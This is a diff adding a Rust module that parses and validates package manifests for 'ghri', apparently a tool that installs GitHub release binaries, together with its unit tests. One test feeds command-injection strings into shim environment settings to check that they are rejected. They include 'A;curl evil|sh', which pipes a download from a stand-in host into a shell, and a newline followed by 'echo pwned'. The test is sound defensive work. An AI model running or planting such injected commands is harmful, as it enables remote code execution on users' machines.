@@ -0,0 +1,307 @@
+use anyhow::{Context, Result};
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::path::Path;
+
+use crate::domain::model::{LinkRule, TagPattern, UrlSource, VersionedLink};
+use crate::provider::RepoId;
+use crate::runtime::Runtime;
+
+/// Default manifest file name, looked up in the current directory
+pub const MANIFEST_FILE: &str = "ghri.toml";
+
+/// File format of a manifest
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum ManifestFormat {
+    #[default]
+    Toml,
+    Json,
+}
+
+impl ManifestFormat {
+    /// Format for a file name: JSON for `.json`, TOML otherwise
+    pub fn from_path(path: &Path) -> Self {
+        match path.extension().and_then(|e| e.to_str()) {
+            Some(ext) if ext.eq_ignore_ascii_case("json") => ManifestFormat::Json,
+            _ => ManifestFormat::Toml,
+        }
+    }
+}
+
+impl std::str::FromStr for ManifestFormat {
+    type Err = anyhow::Error;
+
+    fn from_str(s: &str) -> Result<Self> {
+        match s {
+            "toml" => Ok(ManifestFormat::Toml),
+            "json" => Ok(ManifestFormat::Json),
+            _ => anyhow::bail!("Unknown manifest format '{}', expected toml or json", s),
+        }
+    }
+}
+
+/// Declarative list of packages to keep installed (`ghri.toml`)
+///
+/// ```toml
+/// [packages."sharkdp/bat"]
+/// version = "v0.24.0"
+/// filters = ["*x86_64*linux*musl*"]
+/// links = [{ dest = "~/.local/bin/bat", path = "bat" }]
+/// ```
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Default)]
+#[serde(deny_unknown_fields)]
+pub struct Manifest {
+    /// Packages keyed by "owner/repo"
+    #[serde(default)]
+    pub packages: BTreeMap<String, ManifestPackage>,
+}
+
+/// A package entry in the manifest
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Default)]
+#[serde(deny_unknown_fields)]
+pub struct ManifestPackage {
+    /// Repository to install from when the package name is an alias ("owner/repo")
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub repo: Option<String>,
+    /// Download URL template and version discovery, for packages not hosted on a forge
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub url: Option<UrlSource>,
+    /// Version to install (default: latest release)
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub version: Option<String>,
+    /// Asset filter patterns
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub filters: Vec<String>,
+    /// Allow pre-releases when no version is given
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub pre: Option<bool>,
+    /// Only consider tags matching this glob, for one component of a monorepo (e.g., `cli-v*`)
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub tag_pattern: Option<String>,
+    /// Links to the current version; `~` and relative paths are resolved on sync
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub links: Vec<LinkRule>,
+    /// Links to specific versions, installed next to the current one
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub versioned_links: Vec<VersionedLink>,
+}
+
+impl ManifestPackage {
+    /// Check the tag pattern and the shim settings of every link
+    fn check(&self) -> Result<()> {
+        if let Some(pattern) = &self.tag_pattern {
+            TagPattern::parse(pattern)?;
+        }
+        let links = self.links.iter().map(|l| (&l.dest, &l.shim));
+        let versioned = self.versioned_links.iter().map(|l| (&l.dest, &l.shim));
+        for (dest, shim) in links.chain(versioned) {
+            if let Some(shim) = shim {
+                shim.validate()
+                    .with_context(|| format!("Invalid shim at {}", dest.display()))?;
+            }
+        }
+        Ok(())
+    }
+}
+
+impl Manifest {
+    /// Parse a manifest from TOML
+    pub fn parse(content: &str) -> Result<Self> {
+        Self::parse_as(content, ManifestFormat::Toml)
+    }
+
+    /// Parse a manifest in the given format
+    pub fn parse_as(content: &str, format: ManifestFormat) -> Result<Self> {
+        let manifest: Manifest = match format {
+            ManifestFormat::Toml => toml::from_str(content).context("Invalid manifest")?,
+            ManifestFormat::Json => serde_json::from_str(content).context("Invalid manifest")?,
+        };
+        for (name, package) in manifest.packages()? {
+            package
+                .check()
+                .with_context(|| format!("Invalid package '{}' in manifest", name))?;
+        }
+        Ok(manifest)
+    }
+
+    /// Serialize the manifest to TOML
+    pub fn to_toml(&self) -> Result<String> {
+        toml::to_string_pretty(self).context("Failed to serialize manifest")
+    }
+
+    /// Serialize the manifest in the given format
+    pub fn to_string_as(&self, format: ManifestFormat) -> Result<String> {
+        match format {
+            ManifestFormat::Toml => self.to_toml(),
+            ManifestFormat::Json => serde_json::to_string_pretty(self)
+                .map(|json| json + "\n")
+                .context("Failed to serialize manifest"),
+        }
+    }
+
+    /// Load a manifest file, as JSON if its name ends in `.json`
+    pub fn load<R: Runtime>(runtime: &R, path: &Path) -> Result<Self> {
+        let content = runtime
+            .read_to_string(path)
+            .with_context(|| format!("Failed to read manifest {}", path.display()))?;
+        Self::parse_as(&content, ManifestFormat::from_path(path))
+            .with_context(|| format!("Failed to load {}", path.display()))
+    }
+
+    /// Packages with their parsed repository identifiers
+    pub fn packages(&self) -> Result<Vec<(RepoId, &ManifestPackage)>> {
+        self.packages
+            .iter()
+            .map(|(name, package)| {
+                let repo = name
+                    .parse::<RepoId>()
+                    .with_context(|| format!("Invalid package name '{}' in manifest", name))?;
+                Ok((repo, package))
+            })
+            .collect()
+    }
+
+    /// Check whether the manifest lists a repository
+    pub fn contains(&self, repo: &RepoId) -> bool {
+        self.packages()
+            .map(|packages| packages.iter().any(|(r, _)| r == repo))
+            .unwrap_or(false)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::path::PathBuf;
+
+    #[test]
+    fn test_parse_manifest() {
+        let manifest = Manifest::parse(
+            r#"
+[packages."sharkdp/bat"]
+version = "v0.24.0"
+filters = ["*musl*"]
+links = [{ dest = "~/.local/bin/bat", path = "bat" }]
+
+[packages."cli/cli"]
+pre = true
+"#,
+        )
+        .unwrap();
+
+        let packages = manifest.packages().unwrap();
+        assert_eq!(packages.len(), 2);
+
+        let (repo, bat) = &packages[1];
+        assert_eq!(repo.to_string(), "sharkdp/bat");
+        assert_eq!(bat.version.as_deref(), Some("v0.24.0"));
+        assert_eq!(bat.filters, vec!["*musl*"]);
+        assert_eq!(
+            bat.links,
+            vec![LinkRule {
+                dest: PathBuf::from("~/.local/bin/bat"),
+                path: Some("bat".into()),
+                shim: None,
+                ..Default::default()
+            }]
+        );
+        assert_eq!(packages[0].1.pre, Some(true));
+        assert!(manifest.contains(&"cli/cli".parse().unwrap()));
+        assert!(!manifest.contains(&"other/repo".parse().unwrap()));
+    }
+
+    #[test]
+    fn test_parse_manifest_errors() {
+        assert!(Manifest::parse("[packages.\"not-a-repo\"]\n").is_err());
+        assert!(Manifest::parse("[packages.\"o/r\"]\nversoin = \"v1\"\n").is_err());
+    }
+
+    #[test]
+    fn test_parse_manifest_tag_pattern() {
+        let manifest = Manifest::parse("[packages.\"o/r\"]\ntag_pattern = \"cli-v*\"\n").unwrap();
+        assert_eq!(
+            manifest.packages["o/r"].tag_pattern.as_deref(),
+            Some("cli-v*")
+        );
+        assert!(Manifest::parse("[packages.\"o/r\"]\ntag_pattern = \"cli-[\"\n").is_err());
+    }
+
+    #[test]
+    fn test_parse_manifest_rejects_hostile_shims() {
+        // --- Setup ---
+        let manifest = |env: &str| {
+            format!(
+                "[[packages.\"o/r\".links]]\ndest = \"/bin/tool\"\n\n\
+                 [packages.\"o/r\".links.shim]\nenv = {{ {} }}\n",
+                env
+            )
+        };
+
+        // --- Execute & Verify ---
+        assert!(Manifest::parse(&manifest("TOOL_HOME = \"/opt/it's $(x) %PATH%\"")).is_ok());
+        for env in [
+            "\"A;curl evil|sh\" = \"1\"",
+            "\"A=B\" = \"1\"",
+            "\"1A\" = \"1\"",
+            "\"\" = \"1\"",
+            "A = \"1\\necho pwned\"",
+        ] {
+            let err = Manifest::parse(&manifest(env)).unwrap_err();
+            assert!(
+                format!("{:#}", err).contains("Invalid shim at /bin/tool"),
+                "{}: {:#}",
+                env,
+                err
+            );
+        }
+    }
+
+    #[test]
+    fn test_manifest_roundtrip() {
+        let mut manifest = Manifest::default();
+        manifest.packages.insert(
+            "owner/repo".into(),
+            ManifestPackage {
+                version: Some("v1.0.0".into()),
+                ..Default::default()
+            },
+        );
+
+        let parsed = Manifest::parse(&manifest.to_toml().unwrap()).unwrap();
+        assert_eq!(parsed, manifest);
+    }
+
+    #[test]
+    fn test_manifest_json_roundtrip() {
+        let mut manifest = Manifest::default();
+        manifest.packages.insert(
+            "owner/repo".into(),
+            ManifestPackage {
+                version: Some("v1.0.0".into()),
+                versioned_links: vec![VersionedLink {
+                    dest: PathBuf::from("~/bin/tool-1"),
+                    version: "v1.0.0".into(),
+                    path: None,
+                    shim: None,
+                    ..Default::default()
+                }],
+                ..Default::default()
+            },
+        );
+
+        let json = manifest.to_string_as(ManifestFormat::Json).unwrap();
+        assert!(json.contains("\"versioned_links\""));
+        assert_eq!(
+            Manifest::parse_as(&json, ManifestFormat::Json).unwrap(),
+            manifest
+        );
+        assert_eq!(
+            ManifestFormat::from_path(Path::new("tools.JSON")),
+            ManifestFormat::Json
+        );
+        assert_eq!(
+            ManifestFormat::from_path(Path::new("ghri.toml")),
+            ManifestFormat::Toml
+        );
+    }
+}